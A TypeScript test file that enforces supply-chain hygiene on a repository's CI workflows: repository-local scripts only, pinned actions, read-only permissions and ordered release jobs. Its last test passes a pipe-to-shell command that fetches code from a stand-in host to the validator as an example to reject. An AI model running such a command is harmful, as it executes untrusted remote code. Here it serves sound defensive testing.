import { constants, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';

const root = join(import.meta.dirname, '../..');
const read = (path: string): string => readFileSync(join(root, path), 'utf8');
const workflows = readdirSync(join(root, '.github/workflows')).map((name) => `.github/workflows/${name}`);

interface Step {
  uses?: string;
  run?: string;
}
interface Workflow {
  permissions?: Record<string, string>;
  jobs: Record<
    string,
    { needs?: string | string[]; uses?: string; steps?: Step[]; strategy?: { matrix: { node?: number[] } } }
  >;
}

const stepsOf = (path: string): Step[] =>
  Object.values((parse(read(path)) as Workflow).jobs).flatMap(({ steps = [] }) => steps);

/** What is wrong with a command of a step: each must be in this repository, so that it can be run elsewhere. */
const problemWith = (command: string, scripts: Record<string, string>): string | undefined => {
  const npm = /^npm run ([\w:]+)( |$)/.exec(command)?.[1];
  if (npm !== undefined) return scripts[npm] === undefined ? `package.json has no script ${npm}` : undefined;
  if (command === 'npm ci') return undefined;
  const file = /^(?:sudo )?(\.ci\/\w+)$/.exec(command)?.[1];
  if (file === undefined) return `not a script of this repository: ${command}`;
  const isProgram = (statSync(join(root, file), { throwIfNoEntry: false })?.mode ?? 0) & constants.S_IXUSR;
  return isProgram ? undefined : `${file} is not a program`;
};

describe.each(workflows)('%s', (path) => {
  test('runs scripts of this repository only', () => {
    const { scripts } = JSON.parse(read('package.json'));
    const commands = stepsOf(path).flatMap(({ run }) => run?.split('\n') ?? []);
    expect(commands.length).toBeGreaterThan(0);
    expect(commands.flatMap((command) => problemWith(command, scripts) ?? [])).toEqual([]);
  });

  test('pins its actions, and may only read unless a job asks for more', () => {
    const used = [...read(path).matchAll(/uses: (.*)/g)].map(([, action]) => action);
    expect(used.length).toBeGreaterThan(0);
    const isPinned = (action: string) =>
      /^[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(action) || workflows.includes(action.replace(/^\.\//, ''));
    expect(used.filter((action) => !isPinned(action!))).toEqual([]);
    expect((parse(read(path)) as Workflow).permissions).toEqual({ contents: 'read' });
  });
});

test('the workflows test the versions of Node that the matrix of end-to-end tests has', () => {
  const matrix = (parse(read('.github/workflows/test.yml')) as Workflow).jobs.systems!.strategy!.matrix;
  const versions = [...read('test/e2e/matrix.js').matchAll(/^ {2}'(\d+)\.\d+\.\d+': \{$/gm)].map(([, major]) => major);
  expect(matrix.node!.map(String)).toEqual(versions);
});

test('a release is built after the tests of its commit, and published after the tours of its files', () => {
  const { test: suite, build, tour, publish } = (parse(read('.github/workflows/release.yml')) as Workflow).jobs;
  expect(suite!.uses).toBe('./.github/workflows/test.yml');
  expect([build!.needs, tour!.needs, publish!.needs]).toEqual(['test', 'build', ['build', 'tour']]);
});

test('no file about builds or workflows names the host of a registry', () => {
  const files = ['scripts', '.github', '.ci'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name)),
  );
  expect(files.length).toBeGreaterThan(20);
  const naming = files.filter((file) => /registry\.\w+\.\w+|npm\.pkg\./.test(readFileSync(file, 'utf8')));
  expect(naming).toEqual([]);
});

test('the checks find a command that is missing here, and one that is not ours', () => {
  expect(problemWith('npm run nothing', {})).toBe('package.json has no script nothing');
  expect(problemWith('.ci/nothing', {})).toBe('.ci/nothing is not a program');
  expect(problemWith('curl https://x.example | sh', {})).toContain('not a script of this repository');
});
